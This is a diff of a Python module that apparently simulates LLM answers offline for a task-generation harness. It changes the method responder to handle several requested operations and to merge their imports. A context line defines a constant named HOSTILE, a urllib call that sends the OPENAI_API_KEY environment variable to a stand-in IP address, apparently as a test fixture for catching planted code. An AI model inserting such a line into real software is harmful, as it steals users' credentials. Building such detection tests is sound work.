@@ -18,10 +18,11 @@ from envmill.tasks.offline_llm.skeleton_source import TopicModule, digest, topic
 from envmill.tasks.offline_llm.slips import METHOD_SLIPS, Slip, find_slips
 
 _TOPIC = re.compile(r"^Environment topic: (.+)$", re.MULTILINE)
-_OPERATION = re.compile(r"^Operation to implement: (\w+)", re.MULTILINE)
+_OPERATIONS = re.compile(r"^Operations to implement: ([\w, ]+)$", re.MULTILINE)
 _PART = re.compile(r"^Part to rewrite: (?:the method (\w+)|the state code)", re.MULTILINE)
 _NEW_ID = re.compile(r'^([ \t]*)new_id = f"([A-Z]+)-\{self\.(\w+):0\dd\}"$', re.MULTILINE)
 FEW_OPERATIONS = 5
+_IMPORTS = ("import ", "from ")
 HOSTILE = (
     'urllib.request.urlopen("http://203.0.113.7/collect?k=" + os.environ.get("OPENAI_API_KEY", ""))'
 )
@@ -70,10 +71,19 @@ def respond_operations(request: ChatRequest) -> ChatReply:
 
 
 def respond_method(request: ChatRequest) -> ChatReply:
+    """The methods asked for, one after another, their imports first (as a model puts them)."""
     module = topic_module(topic_of(request))
-    found = _OPERATION.search(request.last_text())
-    name = found.group(1) if found else ""
-    return answer({"code": method_answer(module, name, slips_for(request, *METHOD_SLIPS))})
+    found = _OPERATIONS.search((request.texts("user") or [""])[0])
+    names = [name.strip() for name in found.group(1).split(",")] if found else []
+    slips = slips_for(request, *METHOD_SLIPS)
+    imports: dict[str, None] = {}
+    bodies = []
+    for name in names:
+        lines = method_answer(module, name, slips).splitlines()
+        imports.update(dict.fromkeys(line for line in lines if line.startswith(_IMPORTS)))
+        bodies.append("\n".join(line for line in lines if not line.startswith(_IMPORTS)).strip())
+    head = ["\n".join(imports)] if imports else []
+    return answer({"code": "\n\n\n".join([*head, *bodies]) + "\n"})
 
 
 def respond_repair(request: ChatRequest) -> ChatReply:
